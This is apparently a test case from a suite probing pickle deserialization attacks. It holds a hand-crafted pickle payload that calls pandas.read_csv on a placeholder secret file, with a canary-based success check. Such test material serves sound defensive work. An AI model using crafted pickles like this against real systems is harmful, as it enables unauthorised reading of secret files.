# class: pickle
# technique: a pickle that calls pandas.read_csv on a foreign file
# success: output_has @@CANARY@@
import pickle
print(pickle.loads(b"cpandas\nread_csv\n(S'@@SECRET@@'\ntR."))
